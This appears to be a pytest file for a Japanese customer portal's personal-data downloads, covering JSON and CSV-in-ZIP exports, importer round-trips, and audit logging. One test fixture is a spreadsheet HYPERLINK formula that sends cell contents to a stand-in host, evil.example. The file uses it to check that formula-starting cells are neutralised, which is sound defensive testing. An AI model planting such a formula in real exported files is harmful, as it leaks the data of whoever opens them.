"""Downloads (APPI Art. 33): JSON in the import vocabulary, CSV files Excel opens safely, audited."""
import csv
import io
import json
import zipfile

import pytest
import sqlalchemy as sa

from portal.audit.models import AuditEntry
from portal.inventory.downloads import neutralise
from portal.extensions import db
from portal.inventory.export import export_person_records
from portal.inventory.importer import import_bytes
from portal.audit.services import Actor
from tests.fixtures.app import empty_all_tables
from tests.customer.records import HANAKO, HANAKO_VALUES, item

pytestmark = pytest.mark.usefixtures("customers")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _download(client, login_customer, url: str):
    person_id = login_customer(client, "hanako@example.jp", stepped_up=True)
    response = client.get(url)
    assert response.status_code == 200
    return person_id, response


def _records(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode().splitlines() if line.strip()]


def test_json_download_is_an_attachment_in_the_import_vocabulary(client, login_customer):
    _, response = _download(client, login_customer, "/my/download.json")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="my-data-')
    assert response.headers["Content-Disposition"].endswith('.jsonl"')
    records = _records(response.data)
    assert [r["type"] for r in records][:1] == ["source"]
    person = next(r for r in records if r["type"] == "person")
    assert person == {
        "type": "person", "key": HANAKO, "email": HANAKO_VALUES["email"], "name": HANAKO_VALUES["name"],
        "name_kana": HANAKO_VALUES["kana"], "phone": HANAKO_VALUES["phone"],
        "birthdate": HANAKO_VALUES["birthdate"], "customer_number": HANAKO_VALUES["number"],
    }
    address = next(r for r in records if r["type"] == "item" and r["field"] == "address")
    assert address["source"] == "list-2025" and address["purposes"] == ["dm-post"]
    assert address["collected_at"] == "2024-05-15T10:30:00+09:00" and address["retain_until"] == "2029-05-15"
    assert {r["type"] for r in records} == {"source", "purpose", "person", "item", "consent", "provision"}


def test_json_download_holds_only_the_customers_own_records(client, login_customer):
    _, response = _download(client, login_customer, "/my/download.json")
    records = _records(response.data)
    assert {r.get("person") for r in records if "person" in r} == {HANAKO}
    assert "jiro" not in response.get_data(as_text=True)


def test_json_download_round_trips_through_the_importer_into_an_empty_database(app, client, login_customer):
    _, response = _download(client, login_customer, "/my/download.json")
    downloaded = response.data
    empty_all_tables(app)
    with app.app_context():
        result = import_bytes(downloaded, actor=Actor("test"))
        assert result.counts["person"] == 1 and result.counts["item"] == 7 + 8 + 1
        person_id = db.session.scalar(sa.text("SELECT id FROM person"))
        again = list(export_person_records(person_id))
    assert again == _records(downloaded)


def test_zip_download_holds_the_csv_files_with_bom(client, login_customer):
    _, response = _download(client, login_customer, "/my/download.zip")
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"].endswith('.zip"')
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert sorted(archive.namelist()) == sorted(
        ["person.csv", "items.csv", "consents.csv", "provisions.csv", "sources.csv", "purposes.csv"]
    )
    for name in archive.namelist():
        assert archive.read(name).startswith("\ufeff".encode()), name
    people = list(csv.DictReader(io.StringIO(archive.read("person.csv").decode("utf-8-sig"))))
    assert people[0]["name"] == HANAKO_VALUES["name"] and people[0]["email"] == HANAKO_VALUES["email"]
    items = list(csv.DictReader(io.StringIO(archive.read("items.csv").decode("utf-8-sig"))))
    assert len(items) == 7 + 8 + 1
    consents = list(csv.DictReader(io.StringIO(archive.read("consents.csv").decode("utf-8-sig"))))
    assert [c["state"] for c in consents] == ["granted", "granted", "withdrawn"]
    provisions = list(csv.DictReader(io.StringIO(archive.read("provisions.csv").decode("utf-8-sig"))))
    assert provisions[0]["recipient_representative"] == "代表取締役 佐藤 一郎"
    assert provisions[0]["items"] == "identity.name; contact.address"


def test_zip_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, login_customer, import_lines):
    import_lines(item(HANAKO, "survey", "comment", FORMULA, source="web-signup"))
    _, response = _download(client, login_customer, "/my/download.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    items = list(csv.DictReader(io.StringIO(archive.read("items.csv").decode("utf-8-sig"))))
    comment = next(row for row in items if row["field"] == "comment")
    assert comment["value"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in items for cell in row.values())


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_prefixed_with_a_quote(cell):
    assert neutralise(cell) == "'" + cell


def test_plain_cells_are_left_alone():
    assert neutralise("山田 花子") == "山田 花子" and neutralise("090-1234-5678") == "090-1234-5678"


@pytest.mark.parametrize("url, fmt", [("/my/download.json", "json"), ("/my/download.zip", "zip")])
def test_each_download_is_written_to_the_audit_log_without_personal_values(app, client, login_customer, url, fmt):
    person_id, _ = _download(client, login_customer, url)
    with app.app_context():
        entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "customer.download")).all()
        assert len(entries) == 1
        entry = entries[0]
        assert (entry.actor_type, entry.actor_id, entry.person_id) == ("customer", str(person_id), person_id)
        assert entry.details == {"format": fmt}
        assert "hanako" not in json.dumps(entry.details) and HANAKO_VALUES["name"] not in json.dumps(entry.details)
